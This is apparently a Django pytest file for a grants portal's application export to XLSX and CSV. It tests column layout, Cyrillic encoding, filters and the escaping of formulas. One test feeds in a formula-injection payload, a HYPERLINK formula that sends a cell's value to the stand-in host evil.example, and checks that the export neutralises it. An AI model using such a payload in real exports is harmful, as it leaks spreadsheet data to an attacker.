"""All applications of a call as XLSX (default) and CSV (BOM, ;): one column per question,
the stable keys as the second header row, formulas escaped, phones as text. Read back here."""

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from grants.models import Application

from .competition import call_with_rubric, make_applications, member
from .factories import Applicant


@pytest.fixture
def staff(db):
    client = Client()
    client.force_login(member("coord", "Coordinators"))
    return client


@pytest.fixture
def submitted(call):
    person = Applicant(Client(), call)
    person.start()
    person.fill_all()
    person.submit()
    return Application.objects.get()


def section(application, key):
    return next(section for section in application.answers if section["key"] == key)


def xlsx_sheet(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def xlsx_rows(response):
    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


def csv_rows(response):
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_xlsx_has_a_column_per_question_and_keys_as_second_header(staff, call, submitted):
    """Labels first, stable keys second, then one row per application with each answer in its column."""
    Application.objects.update(phone="+77011234567")
    rows = xlsx_rows(staff.get(reverse("grants_application_export", args=[call.pk])))
    labels, keys, data = rows[0], rows[1], rows[2:]
    assert keys[:3] == ["reference", "status", "applicant_type"]
    for key in ["project.project_title", "project.problem", "project.people", "plan.activities", "budget.lines"]:
        assert key in keys
    assert keys.index("project.project_title") < keys.index("plan.activities") < keys.index("budget.lines")
    assert labels[keys.index("project.problem")] == "Project: What problem"
    assert len(data) == 1
    row = dict(zip(keys, data[0], strict=True))
    assert row["reference"] == submitted.reference
    assert row["project.problem"] == "Детям негде играть."
    assert row["requested_amount"] == 570000
    assert isinstance(row["phone"], str) and "+7 701 123 45 67" in row["phone"]
    assert "Бөрлі" in row["district"] or "Бурлин" in row["district"]


@pytest.mark.django_db
def test_xlsx_header_rows_are_bold_and_stay_in_view(staff, call, submitted):
    """Both header rows are bold and frozen above the scrolling rows; the BIN stays text."""
    Application.objects.update(bin="040140000385")
    sheet = xlsx_sheet(staff.get(reverse("grants_application_export", args=[call.pk])))
    assert sheet.freeze_panes == "A3"
    assert sheet["A1"].font.b and sheet["A2"].font.b and not sheet["A3"].font.b
    keys = [cell.value for cell in sheet[2]]
    assert sheet.cell(row=3, column=keys.index("bin") + 1).value == "040140000385"


@pytest.mark.django_db
def test_an_answer_with_a_control_character_still_exports(staff, call, submitted):
    """A vertical tab pasted from a word processor into an answer does not break the download."""
    application = Application.objects.get()
    section(application, "project")["rows"][1][1] = "Первая строка\x0bвторая"
    application.save()
    rows = xlsx_rows(staff.get(reverse("grants_application_export", args=[call.pk])))
    assert rows[2][rows[1].index("project.problem")].startswith("Первая строка")


@pytest.mark.django_db
def test_csv_has_bom_semicolons_and_the_same_columns(staff, call, submitted):
    """The CSV opens in Excel with Cyrillic intact: BOM, ';' between cells, the same two header rows."""
    response = staff.get(reverse("grants_application_export", args=[call.pk]), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert rows[1][0] == "reference" and "project.problem" in rows[1]
    assert rows[2][rows[1].index("project.problem")] == "Детям негде играть."
    assert rows[2][rows[1].index("organisation_name")] == "ОО «Жас Ауыл»"


@pytest.mark.django_db
def test_every_cell_is_formula_escaped(staff, call, submitted):
    """An organisation or an answer typed as a formula is written as text in both formats."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    application = Application.objects.get()
    application.organisation_name = hostile
    section(application, "project")["rows"][1][1] = "@SUM(1+1)"  # the answer to "What problem"
    application.save()
    rows = xlsx_rows(staff.get(reverse("grants_application_export", args=[call.pk])))
    keys, row = rows[1], rows[2]
    assert row[keys.index("organisation_name")] == "'" + hostile
    assert row[keys.index("project.problem")] == "'@SUM(1+1)"
    rows = csv_rows(staff.get(reverse("grants_application_export", args=[call.pk]), {"format": "csv"}))
    assert rows[2][rows[1].index("organisation_name")] == "'" + hostile


@pytest.mark.django_db
def test_export_follows_the_lists_filters_and_this_call_only(staff):
    """Filtered like the list it is downloaded from; another call's applications never appear."""
    call = call_with_rubric()
    other = call_with_rubric(title="Other", slug="other")
    make_applications(call, 3, status="submitted")
    make_applications(other, 2, status="submitted", start=10)
    Application.objects.filter(reference="ZKO-2026-0001").update(status="shortlisted")
    url = reverse("grants_application_export", args=[call.pk])
    assert len(xlsx_rows(staff.get(url))) == 2 + 3
    rows = xlsx_rows(staff.get(url, {"status": "shortlisted"}))
    assert [row[0] for row in rows[2:]] == ["ZKO-2026-0001"]


@pytest.mark.django_db
def test_answers_of_a_step_changed_since_submission_are_left_out_not_mislabelled(staff, call, submitted):
    """When a step's questions changed after submitting, its old answers do not land under new keys."""
    application = Application.objects.get()
    section(application, "project")["rows"].pop()  # one answer fewer than the step has questions now
    application.save()
    rows = xlsx_rows(staff.get(reverse("grants_application_export", args=[call.pk])))
    keys, row = rows[1], rows[2]
    assert row[keys.index("project.problem")] in (None, "")
    assert row[keys.index("budget.lines")]
